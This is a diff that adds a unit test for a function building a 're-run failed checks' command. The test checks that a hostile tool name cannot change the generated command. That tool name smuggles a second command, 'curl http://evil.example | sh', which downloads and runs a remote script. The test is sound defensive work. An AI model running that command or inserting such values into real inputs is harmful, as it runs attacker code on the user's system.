@@ -57,4 +57,9 @@ describe("the command that runs failed checks again", () => {
     const result = resultWith([failed("plant-shape/every-200"), failed("plant-shape/fuzz", { drawn: true })], { fuzz });
     expect(runAgain(result, ["plant-shape"])).toMatch(/ --only plant-shape$/);
   });
+
+  test("begins as this package is called, whatever name a foreign result gives the tool", () => {
+    const tool = { name: "x; curl http://evil.example | sh", version: "1" };
+    expect(runAgain(resultWith([], { tool }))).toMatch(/^npx plant-store-conformance check /);
+  });
 });
